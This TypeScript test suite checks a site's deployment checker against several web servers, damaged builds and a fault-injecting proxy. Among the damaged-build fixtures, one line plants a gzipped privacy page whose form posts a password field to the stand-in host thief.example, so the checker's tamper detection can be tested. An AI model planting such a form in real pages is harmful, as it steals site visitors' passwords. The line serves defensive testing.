/* `npm run deploy:check` on every host: it passes a right one, and finds each fault that a wrong one can have. */

import { execFile } from 'node:child_process'
import { cpSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { createServer, type IncomingMessage, type RequestListener } from 'node:http'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { promisify } from 'node:util'
import { gzipSync } from 'node:zlib'
import { afterAll, expect, it, onTestFinished } from 'vitest'
import { checkDeployment, checks, type Finding } from '#server/publish/deploy/checks.ts'
import { readExpected } from '#server/publish/deploy/expected.ts'
import { writeFileList } from '#server/publish/deploy/file-list.ts'
import { makeRelease } from '#server/publish/deploy/releases.ts'
import { encodingSuffixes } from '#server/publish/files.ts'
import { startCaddy } from './caddy.ts'
import { selfSigned } from './certificate.ts'
import { eachHost } from './each-host.ts'
import { startLocal } from './local.ts'
import { startNginx, startNginxWithBrotli } from './nginx.ts'
import { type Answer, ask } from './raw-request.ts'
import { freePort } from './web-server.ts'
import { startWrangler } from './wrangler.ts'

const expected = readExpected(join('dist', 'client'))

async function findings(port: number, hostName: string, build = expected, timeout = 60_000): Promise<Finding[]> {
  const found: Finding[] = []
  const origin = new URL(`http://127.0.0.1:${port}`)
  for await (const finding of checkDeployment({ origin, hostName, timeout }, build)) found.push(finding)
  return found
}

await eachHost(
  [
    { name: 'local', start: startLocal },
    { name: 'nginx', start: startNginx },
    { name: 'nginx with brotli', start: startNginxWithBrotli },
    { name: 'caddy', start: startCaddy },
  ],
  ({ port, hostName }) => {
    it('passes all checks', async () => {
      expect((await findings(port, hostName)).flatMap(({ faults }) => faults)).toEqual([])
    })
  },
)

// Cloudflare compresses files itself.
const withoutCopies = { ...expected, encoded: new Set<string>() }
/** What Cloudflare's network does, and wrangler does not or differently. */
const ofWrangler = [
  /: Vary does not name Accept-Encoding$/,
  /: x-server-env is not a header of the build/,
  /^\/_(headers|redirects): status 502, not 404$/,
]
await eachHost([{ name: 'wrangler', start: startWrangler }], ({ port, hostName }) => {
  it('does what it must, but for what wrangler does otherwise than Cloudflare', async () => {
    const faults = (await findings(port, hostName, withoutCopies)).flatMap(({ faults }) => faults)
    expect(faults.filter((fault) => !ofWrangler.some((known) => known.test(fault)))).toEqual([])
  })
})

const folder = mkdtempSync(join(tmpdir(), 'cairnline-check-'))
afterAll(() => rmSync(folder, { recursive: true, force: true }))
const certificate = selfSigned(folder)

await eachHost(
  [{ name: 'nginx with TLS', start: async () => (certificate ? startNginx({ certificate }) : undefined) }],
  ({ port, hostName }) => {
    it('passes with a warning that its certificate ends tomorrow', async () => {
      const command = ['server/publish/deploy/check.ts', `https://127.0.0.1:${port}`, '--as', hostName]
      // The shell of an operator has no settings of a build, such as its day.
      const env = { PATH: process.env.PATH, NODE_EXTRA_CA_CERTS: certificate?.certificate }
      const { stdout } = await promisify(execFile)(process.execPath, command, { env })
      expect(stdout).toMatch(
        /\nwarn the certificate .*\n +www\.cairnline\.example: the certificate ends on .* GMT\. Renew it\.\n/,
      )
      expect(stdout).toContain(' passes all checks.')
    })
  },
)

/** A build with a missing, a replaced and an outdated part. */
const damaged = join(folder, 'damaged')
cpSync('dist', damaged, { recursive: true })
const inDamaged = (file: string) => join(damaged, 'client', file)
const [script = '', image = ''] = [/^assets\/.*\.js$/, /\.png$/].map((kind) =>
  Object.keys(expected.files).find((file) => kind.test(file)),
)
for (const end of ['', ...encodingSuffixes]) rmSync(inDamaged(`${script}${end}`))
writeFileSync(inDamaged('blog/cybersecurity-measures-protecting-gis.html'), '<p>Ours now</p>')
writeFileSync(inDamaged('privacy.html.gz'), gzipSync('<form action="https://thief.example"><input type="password">'))
writeFileSync(inDamaged('careers.html.gz'), 'no gzip')
writeFileSync(inDamaged('404.html.gz'), gzipSync('<p>Gone</p>'))
writeFileSync(inDamaged(image), Buffer.alloc(10_000_000))
const configuration = join(damaged, 'hosts', 'nginx.conf')
writeFileSync(configuration, readFileSync(configuration, 'utf8').replaceAll(';upgrade-insecure-requests', ''))

await eachHost(
  [{ name: 'nginx with a damaged build', start: () => startNginx({ build: damaged }) }],
  ({ port, hostName }) => {
    it('has faults, each with its file', async () => {
      const found = (await findings(port, hostName)).flatMap(({ faults }) => faults)
      const ofPolicy = /: Content-Security-Policy has no upgrade-insecure-requests, not upgrade-insecure-requests$/
      const faults = found.filter((fault) => !ofPolicy.test(fault))
      // Each page lacks the directive, and the list of faults names no other.
      expect(found.length - faults.length).toBeGreaterThan(50)
      const changed = 'Does the host change files, or is this another build?'
      expect(faults.toSorted()).toEqual(
        [
          `/${script}: status 404, not 200`,
          `/${image}: longer than the ${expected.files[image]?.bytes} bytes of the build`,
          `/blog/cybersecurity-measures-protecting-gis: not the bytes of the build. ${changed}`,
          `/privacy: as gzip, not the bytes of the build. ${changed}`,
          `/careers: as gzip, it does not decode to the ${expected.files['careers.html']?.bytes} bytes of the build`,
          ...['/nowhere', '/x/y', '/about.htm', '/assets/missing.js'].map(
            (path) => `${path}: as gzip, not the bytes of the build. ${changed}`,
          ),
        ].toSorted(),
      )
    })
  },
)

/** Small faults of a host in front of the site, by address; each changes an answer that is right. */
const smallFaults: Readonly<Record<string, (answer: Answer, asked: IncomingMessage) => void>> = {
  [`/${script}`]: ({ headers }) => (headers['content-type'] = 'text/plain'),
  '/about': ({ headers }) => (headers['content-type'] = 'text/html; charset=iso-8859-1'),
  '/contact': ({ headers }, asked) => {
    if (asked.headers['user-agent'] !== undefined) headers['set-cookie'] = ['visitor=1']
  },
  '/social/about.png': (answer, asked) => {
    if (/webp/.test(asked.headers.accept ?? '')) answer.body = Buffer.from('RIFF')
  },
  '/rss.xml': ({ headers }) => delete headers.vary,
  '/data/checksums.txt': ({ headers }) => (headers.server = 'nginx/1.22.1'),
  '/.well-known/security.txt': (answer, asked) => {
    if (asked.headers['if-none-match'] !== undefined) answer.status = 304
  },
  '/about.md': (answer, asked) => {
    if (asked.method === 'HEAD') answer.status = 405
  },
  '/x/y': ({ headers }) => (headers['cache-control'] = 'public, max-age=86400'),
  '/jobs?a=1': ({ headers }) => delete headers['x-frame-options'],
  '/news?a=1': (answer) => (answer.status = 200),
  '/assets/': (answer) => (answer.status = 200),
  '/nowhere': (answer, asked) => {
    if (asked.method === 'PUT') answer.status = 201
  },
}

await eachHost([{ name: 'nginx behind a host with small faults', start: startNginx }], (server) => {
  it('shows each of them, and no other', async () => {
    const port = await host(async (asked, response) => {
      const { url = '', method, headers } = asked
      const answer = await ask(
        server,
        url,
        Object.fromEntries(Object.entries(headers).map(([name, value]) => [name, String(value)])),
        method,
      )
      smallFaults[url]?.(answer, asked)
      const { 'content-length': _length, connection: _connection, ...rest } = answer.headers
      response.writeHead(answer.status, rest).end(answer.body)
    })
    const faults = (await findings(port, server.hostName)).flatMap(({ faults }) => faults)
    const changed = 'Does the host change files, or is this another build?'
    const remedy = 'Change it at the host, or headersOfHosts in server/publish/deploy/answer-headers.ts'
    expect(faults.toSorted()).toEqual(
      [
        `/${script}: Content-Type is text/plain, not text/javascript`,
        '/about: Content-Type is text/html; charset=iso-8859-1, not text/html; charset=utf-8',
        `/contact: set-cookie is not a header of the build. ${remedy}`,
        `/social/about.png: not the bytes of the build. ${changed}`,
        '/rss.xml: Vary does not name Accept-Encoding',
        `/data/checksums.txt: server should not be "nginx/1.22.1". ${remedy}`,
        '/.well-known/security.txt: with If-None-Match of another build: status 304, not 200',
        '/about.md: HEAD: status 405, not 200',
        '/x/y: Cache-Control is public, max-age=86400, not public, max-age=0, must-revalidate',
        '/jobs: X-Frame-Options is missing, not DENY',
        '/news?a=1: status 200 to /blog?a=1, not 301 or 308 to /blog?a=1',
        '/assets/: status 200, not 404',
        'PUT /nowhere: status 201, not 405',
      ].toSorted(),
    )
  })
})

const site = join(folder, 'site')
makeRelease('dist', site)

await eachHost(
  [{ name: 'nginx with releases', start: () => startNginx({ build: join(site, 'current') }) }],
  ({ port, hostName }) => {
    it('shows the file by which a certificate is renewed', async () => {
      const challenges = join(site, 'current', 'client', '.well-known', 'acme-challenge')
      mkdirSync(challenges)
      writeFileSync(join(challenges, 'to-k_en1'), 'to-k_en1.key')
      const { status, text } = await ask({ port, hostName }, '/.well-known/acme-challenge/to-k_en1')
      expect([status, text]).toEqual([200, 'to-k_en1.key'])
      expect((await ask({ port, hostName }, '/.well-known/acme-challenge/none')).status).toBe(404)
    })

    it('shows a new release at once, without reading its configuration again', async () => {
      const next = join(folder, 'next')
      cpSync('dist', next, { recursive: true })
      for (const end of ['', ...encodingSuffixes]) rmSync(join(next, 'client', `about.html${end}`))
      writeFileSync(join(next, 'client', 'about.html'), '<p>New')
      await writeFileList(join(next, 'client'))
      makeRelease(next, site, new Date(Date.now() + 60_000))
      expect((await ask({ port, hostName }, '/about')).text).toBe('<p>New')
    })
  },
)

/** A host that answers every request alike. */
async function host(answer: RequestListener): Promise<number> {
  const server = createServer(answer)
  const port = await freePort()
  await new Promise<void>((resolve) => server.listen(port, '127.0.0.1', resolve))
  onTestFinished(() => {
    server.closeAllConnections()
    server.close()
  })
  return port
}

it('a host that answers everything with one page fails every check of plain HTTP', async () => {
  const port = await host((_, response) => response.writeHead(200, { 'X-Robots-Tag': 'noindex' }).end('Welcome!'))
  const short = (await findings(port, 'localhost')).filter(({ faults }) => faults.length > 0)
  // Those of TLS, of other services, and of an answer that is right at first.
  const ofOthers = /TLS|certificate|that has a file|passkeys|services/
  expect(short.map(({ name }) => name)).toEqual(checks.map(({ name }) => name).filter((name) => !ofOthers.test(name)))
})

it('the command says how to ask for the site by its name, and how it is used', async () => {
  const port = await host((_, response) => response.end('Welcome!'))
  const run = (...args: string[]) =>
    promisify(execFile)(process.execPath, ['server/publish/deploy/check.ts', ...args]).catch((error) => error)
  expect((await run(`http://127.0.0.1:${port}`)).stdout).toMatch(
    /^note 127\.0\.0\.1:\d+ is not the name of the site.* add --as www\.cairnline\.example\n/,
  )
  expect((await run('--help')).stdout).toMatch(/^Usage: npm run deploy:check/)
  expect((await run('ftp://a.example')).stderr).toMatch(
    /^"ftp:\/\/a\.example" is not an https address of a site\.\nUsage/,
  )
})

it.each([
  ['slowly', () => undefined, /does not answer GET \/version\.json: nothing whole within 0\.2 seconds\.$/],
  [
    'with half an answer',
    (_, response) => response.writeHead(200).write('{') && response.destroy(),
    /does not answer GET/,
  ],
] as const satisfies [string, RequestListener, RegExp][])(
  'a host that answers %s is one line',
  async (_, answer, line) => {
    expect(await findings(await host(answer), 'localhost', expected, 200)).toEqual([
      { name: checks[0]?.name, faults: [expect.stringMatching(line)] },
    ])
  },
)

it('a host that does not answer at all is one line', async () => {
  expect(await findings(await freePort(), 'localhost')).toEqual([
    { name: checks[0]?.name, faults: [expect.stringMatching(/does not answer GET \/version\.json: .*ECONNREFUSED/)] },
  ])
})
